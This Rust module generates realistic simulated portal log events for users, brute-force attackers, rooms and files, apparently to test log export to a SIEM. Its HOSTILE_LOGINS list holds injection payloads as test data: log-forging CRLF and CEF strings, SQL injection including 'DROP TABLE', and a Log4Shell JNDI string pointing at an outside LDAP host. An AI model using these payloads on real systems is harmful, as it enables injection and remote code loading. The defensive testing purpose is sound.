//! Realistic data: users, attackers, hostile logins, rooms and files; the row generators.

use time::OffsetDateTime;

use crate::*;

// ---------------------------------------------------------------------------------------------
// Realistic data
// ---------------------------------------------------------------------------------------------

/// A portal user and their usual client.
#[derive(Debug)]
pub(crate) struct Profile {
    pub(crate) name: &'static str,
    pub(crate) id: &'static str,
    pub(crate) email: &'static str,
    pub(crate) ip: &'static str,
    pub(crate) country: &'static str,
    pub(crate) city: &'static str,
    pub(crate) browser: &'static str,
    pub(crate) platform: &'static str,
}

/// Index of the service account in [`USERS`].
pub(crate) const SERVICE_USER: usize = 3;

pub(crate) const USERS: [Profile; 12] = [
    Profile {
        name: "Alice Johnson",
        id: "9b1e4f7a-2c3d-4e5f-8a6b-7c8d9e0f1a2b",
        email: "alice.johnson@example.com",
        ip: "203.0.113.45",
        country: "Germany",
        city: "Berlin",
        browser: "Chrome 131",
        platform: "Windows 10",
    },
    Profile {
        name: "Carol Diaz",
        id: "5d2f8c61-0a4b-4e9f-b3c7-8e1d2a6f4b05",
        email: "carol.diaz@example.com",
        ip: "203.0.113.200",
        country: "France",
        city: "Paris",
        browser: "Edge 131",
        platform: "Mac OS X 10 Apple Mac",
    },
    Profile {
        name: "Dave Miller",
        id: "1c9e7b3a-6d42-4f8e-a5b1-0e7d3c2f9a64",
        email: "dave.miller@example.com",
        ip: "10.20.30.40",
        country: "",
        city: "",
        browser: "Mobile Safari 18",
        platform: "iOS 18 Apple iPhone",
    },
    Profile {
        name: "SIEM Service",
        id: "3f8a1c52-7d4e-4b0a-9c61-2e5d8b7a9f10",
        email: "siem@example.com",
        ip: "198.51.100.77",
        country: "Netherlands",
        city: "Amsterdam",
        browser: "Python Requests 2",
        platform: "Other",
    },
    Profile {
        name: "Eve Turner",
        id: "c4e7a0d2-5b8f-4c1e-9d3a-6f2b1e8c7d90",
        email: "eve.turner@example.com",
        ip: "198.51.100.23",
        country: "United Kingdom",
        city: "London",
        browser: "Firefox 133",
        platform: "Ubuntu",
    },
    Profile {
        name: "Frank Müller",
        id: "7a3d9e21-4b6c-4d8f-9e0a-1b2c3d4e5f60",
        email: "frank.mueller@example.com",
        ip: "2a02:8108:1a40:5e00:9c1f:2b3a:4c5d:6e7f",
        country: "Germany",
        city: "Munich",
        browser: "Chrome 130",
        platform: "Windows 10",
    },
    Profile {
        name: "Grace Lee",
        id: "2e4f6a8c-0b1d-4e3f-8a5b-7c9d1e3f5a7b",
        email: "grace.lee@example.com",
        ip: "192.168.1.34",
        country: "",
        city: "",
        browser: "Safari 18",
        platform: "Mac OS X 10 Apple Mac",
    },
    Profile {
        name: "Hiro Tanaka",
        id: "8b0d2f4a-6c8e-4a1b-9d3f-5e7a9c1b3d5f",
        email: "hiro.tanaka@example.com",
        ip: "203.0.113.9",
        country: "Japan",
        city: "Tokyo",
        browser: "Chrome Mobile 131",
        platform: "Android 14 Samsung SM-S921B",
    },
    Profile {
        name: "Inês Carvalho",
        id: "4d6f8b0a-2c4e-4f6a-8b0c-2d4f6a8b0c2e",
        email: "ines.carvalho@example.com",
        ip: "198.51.100.140",
        country: "Portugal",
        city: "Lisbon",
        browser: "Firefox 133",
        platform: "Windows 10",
    },
    Profile {
        name: "Jamal Okafor",
        id: "6f8a0c2e-4a6c-4e8a-a0c2-4e6a8c0e2a4c",
        email: "jamal.okafor@example.com",
        ip: "2001:db8:3c4d:15::1a2f",
        country: "Nigeria",
        city: "Lagos",
        browser: "Chrome 131",
        platform: "Linux",
    },
    Profile {
        name: "Ольга Смирнова",
        id: "0a2c4e6a-8c0e-4a2c-b4e6-8a0c2e4a6c8e",
        email: "olga.smirnova@example.com",
        ip: "203.0.113.77",
        country: "Latvia",
        city: "Riga",
        browser: "Yandex Browser 24",
        platform: "Windows 10",
    },
    Profile {
        name: "李伟",
        id: "9e1a3c5e-7a9c-4e1a-83c5-e7a9c1e3a5c7",
        email: "li.wei@example.com",
        ip: "198.51.100.5",
        country: "Singapore",
        city: "Singapore",
        browser: "Edge 131",
        platform: "Windows 10",
    },
];

/// Occasional other networks a user logs in from: VPN, home, private ranges, IPv6.
pub(crate) const ALT_NETS: &[(&str, &str, &str)] = &[
    ("198.51.100.14", "Netherlands", "Amsterdam"),
    ("192.168.10.5", "", ""),
    ("172.16.4.20", "", ""),
    ("2a02:810d:4b3f:a200::1c", "Germany", "Frankfurt am Main"),
    ("203.0.113.130", "Spain", "Madrid"),
    ("10.0.8.17", "", ""),
];

/// A brute-force source.
#[derive(Debug)]
pub(crate) struct Attacker {
    pub(crate) ip: &'static str,
    pub(crate) country: &'static str,
    pub(crate) city: &'static str,
    pub(crate) browser: &'static str,
    pub(crate) platform: &'static str,
}

pub(crate) const ATTACKERS: &[Attacker] = &[
    Attacker {
        ip: "192.0.2.66",
        country: "",
        city: "",
        browser: "Firefox 133",
        platform: "Ubuntu",
    },
    Attacker {
        ip: "198.51.100.250",
        country: "Russia",
        city: "Moscow",
        browser: "Python Requests 2",
        platform: "Other",
    },
    Attacker {
        ip: "2001:db8:85a3::8a2e:370:7334",
        country: "",
        city: "",
        browser: "curl 8",
        platform: "Other",
    },
    Attacker {
        ip: "203.0.113.250",
        country: "China",
        city: "Shenzhen",
        browser: "Chrome 99",
        platform: "Linux",
    },
    Attacker {
        ip: "192.0.2.13",
        country: "Brazil",
        city: "São Paulo",
        browser: "Other",
        platform: "Other",
    },
];

/// User names typed by attackers, chosen to break naive log formats.
pub(crate) const HOSTILE_LOGINS: &[&str] = &[
    "admin|CEF:0|Evil|Corp|1|fake|10|",
    "root=1 suser=admin act=allow",
    "CORP\\administrator",
    "\"quoted\" admin@example.com",
    "admin] [severity=0",
    "alice@example.com\r\nJan 15 14:00:00 docspace sshd[1]: Accepted password for root",
    "nul\u{0}byte@example.com",
    "line\u{2028}separator@example.com",
    "<!channel> please reset my password",
    "' OR '1'='1' --",
    "${jndi:ldap://198.51.100.9/a}",
    "admin\\\"; DROP TABLE login_events; --",
    "tab\tseparated@example.com",
];

/// Ordinary names typed in failed attempts.
pub(crate) const PLAIN_LOGINS: &[&str] = &[
    "administrator",
    "admin@example.com",
    "bob@example.com",
    "test",
    "info@example.com",
];

pub(crate) const ROOMS: &[(&str, &str)] = &[
    ("Finance", "4821"),
    ("Legal", "4830"),
    ("Marketing Q1", "5102"),
    ("Проекты", "5517"),
    ("HR — Onboarding", "6003"),
];

pub(crate) const FILES: &[&str] = &[
    "Q4-financials.xlsx",
    "Board minutes 2025-01.docx",
    "Résumé — Jean-Luc.pdf",
    "Отчёт за квартал.docx",
    "Budget,v2.xlsx",
    "contract_signed_final_FINAL(3).pdf",
    "Very long file name that keeps going for the sake of testing the shortened text.docx",
    "設計書.pptx",
    "notes.txt",
    "Salaries 2025 | confidential.xlsx",
];

pub(crate) const FOLDERS: &[&str] = &["Contracts", "Invoices 2025", "Архив", "Drafts"];

pub(crate) fn hostile_login(rng: &mut fastrand::Rng) -> String {
    match rng.usize(..HOSTILE_LOGINS.len() + 2) {
        i if i < HOSTILE_LOGINS.len() => HOSTILE_LOGINS[i].to_owned(),
        i if i == HOSTILE_LOGINS.len() => format!("{}@example.com", "A".repeat(1500)),
        _ => PLAIN_LOGINS[rng.usize(..PLAIN_LOGINS.len())].to_owned(),
    }
}

pub(crate) fn random_guid(rng: &mut fastrand::Rng) -> String {
    format!(
        "{:08x}-{:04x}-4{:03x}-{:x}{:03x}-{:012x}",
        rng.u32(..),
        rng.u16(..),
        rng.u16(..0x1000),
        8 + rng.u8(..4),
        rng.u16(..0x1000),
        rng.u64(..1 << 48)
    )
}

/// Sets the client fields of `ev` from `user`, sometimes from another network.
pub(crate) fn set_client(rng: &mut fastrand::Rng, ev: &mut SimEvent, user: &Profile) {
    ev.user = user.name.to_owned();
    ev.user_id = user.id.to_owned();
    ev.browser = user.browser.to_owned();
    ev.platform = user.platform.to_owned();
    if rng.u8(..100) < 10 {
        let (ip, country, city) = ALT_NETS[rng.usize(..ALT_NETS.len())];
        ev.ip = ip.to_owned();
        ev.country = country.to_owned();
        ev.city = city.to_owned();
    } else {
        ev.ip = user.ip.to_owned();
        ev.country = user.country.to_owned();
        ev.city = user.city.to_owned();
    }
}

pub(crate) fn gen_login(
    rng: &mut fastrand::Rng,
    burst: &mut Option<Burst>,
    date: OffsetDateTime,
) -> SimEvent {
    if let Some(b) = burst.as_mut() {
        let code = if b.failures_before_lockout > 0 {
            b.failures_before_lockout -= 1;
            1013
        } else {
            1023
        };
        let mut ev = SimEvent::login(date, code);
        ev.user = b.login.clone();
        ev.login = Some(b.login.clone());
        ev.ip = b.attacker.ip.to_owned();
        ev.country = b.attacker.country.to_owned();
        ev.city = b.attacker.city.to_owned();
        ev.browser = b.attacker.browser.to_owned();
        ev.platform = b.attacker.platform.to_owned();
        ev.page = if b.attacker.browser == "Python Requests 2" || b.attacker.browser == "curl 8" {
            format!("{PORTAL}/api/2.0/authentication")
        } else {
            format!("{PORTAL}/login")
        };
        b.remaining = b.remaining.saturating_sub(1);
        if b.remaining == 0 {
            *burst = None;
        }
        return ev;
    }

    let roll = rng.u8(..100);
    if roll >= 97 {
        // Start a brute-force burst: a few wrong passwords, then lockouts.
        let attacker = &ATTACKERS[rng.usize(..ATTACKERS.len())];
        let login = if rng.bool() {
            hostile_login(rng)
        } else {
            USERS[rng.usize(..USERS.len())].email.to_owned()
        };
        *burst = Some(Burst {
            remaining: rng.u32(4..12),
            failures_before_lockout: rng.u32(2..6),
            attacker,
            login,
        });
        return gen_login(rng, burst, date);
    }

    let user_idx = rng.usize(..USERS.len());
    let user = &USERS[user_idx];
    let code = if user_idx == SERVICE_USER {
        if roll < 95 { 1010 } else { 1013 }
    } else {
        match roll {
            0..=39 => 1029,
            40..=49 => 1010,
            50..=62 => 1013,
            63..=74 => 1006,
            75..=82 => 1015,
            83..=86 => 1025,
            87..=90 => 1021,
            91..=93 => 1028,
            94 => 1026,
            95 => 1005,
            _ => 1000,
        }
    };
    let mut ev = SimEvent::login(date, code);
    set_client(rng, &mut ev, user);
    ev.page = match code {
        1010 | 1028 => format!("{PORTAL}/api/2.0/authentication"),
        1015 => "https://login.microsoftonline.com/".to_owned(),
        1025 | 1021 => format!("{PORTAL}/confirm/TfaAuth"),
        1006 => format!(
            "{PORTAL}/rooms/shared/filter?folder={}",
            ROOMS[rng.usize(..ROOMS.len())].1
        ),
        _ => format!("{PORTAL}/login"),
    };
    match code {
        1006 => ev.login = Some(user.name.to_owned()),
        1025 => {
            // Wrong 2FA code: display name as initiator, Guest as actor.
            ev.user_id = GUEST_USER_ID.to_owned();
            ev.login = Some(user.name.to_owned());
        }
        c if is_login_failure(c) => {
            let typed = if rng.u8(..100) < 20 {
                hostile_login(rng)
            } else {
                user.email.to_owned()
            };
            ev.user_id = GUEST_USER_ID.to_owned();
            ev.user = typed.clone();
            ev.login = Some(typed);
        }
        _ => ev.login = None,
    }
    ev
}

pub(crate) fn gen_audit(rng: &mut fastrand::Rng, date: OffsetDateTime) -> SimEvent {
    let code = match rng.u8(..100) {
        0..=23 => 5011,
        24..=41 => 5009,
        42..=51 => 5000,
        52..=59 => 5002,
        60..=65 => 5019,
        66..=71 => 5018,
        72..=75 => 5017,
        76..=79 => 5070,
        80..=84 => 4000,
        85..=88 => 4006,
        89..=90 => 4018,
        91..=92 => 6035,
        93..=94 => 6027,
        95..=96 => 6028,
        _ => 5008,
    };
    let mut ev = SimEvent::audit(date, code);
    let mut user_idx = rng.usize(..USERS.len());
    if user_idx == SERVICE_USER {
        user_idx = 0;
    }
    set_client(rng, &mut ev, &USERS[user_idx]);
    let Some(map) = audit_map(code) else {
        return ev;
    };
    let (room, room_id) = ROOMS[rng.usize(..ROOMS.len())];
    match map.entries.first() {
        Some(1) => {
            let file = FILES[rng.usize(..FILES.len())];
            ev.action_text = render_template(map.template, file);
            ev.target = Some(vec![rng.u32(10_000..99_999).to_string()]);
        }
        Some(2) => {
            let folder = FOLDERS[rng.usize(..FOLDERS.len())];
            ev.action_text = render_template(map.template, folder);
            ev.target = Some(vec![rng.u32(1_000..9_999).to_string()]);
        }
        Some(25) => {
            ev.action_text = render_template(map.template, room);
            ev.target = Some(vec![room_id.to_owned()]);
        }
        Some(23) => {
            let other = &USERS[rng.usize(..USERS.len())];
            let guid = if code == 4000 {
                random_guid(rng)
            } else {
                other.id.to_owned()
            };
            ev.action_text = render_template(map.template, other.name);
            ev.target = Some(vec![guid]);
        }
        _ => {
            ev.action_text = map.template.to_owned();
            ev.target = None;
        }
    }
    if map.product == 2 {
        if rng.u8(..100) < 15 {
            ev.context = "My documents".to_owned();
            ev.page = format!("{PORTAL}/rooms/personal/filter");
        } else {
            ev.context = format!("Rooms: {room}");
            ev.page = format!("{PORTAL}/rooms/shared/{room_id}/filter?folder={room_id}");
        }
    }
    ev
}
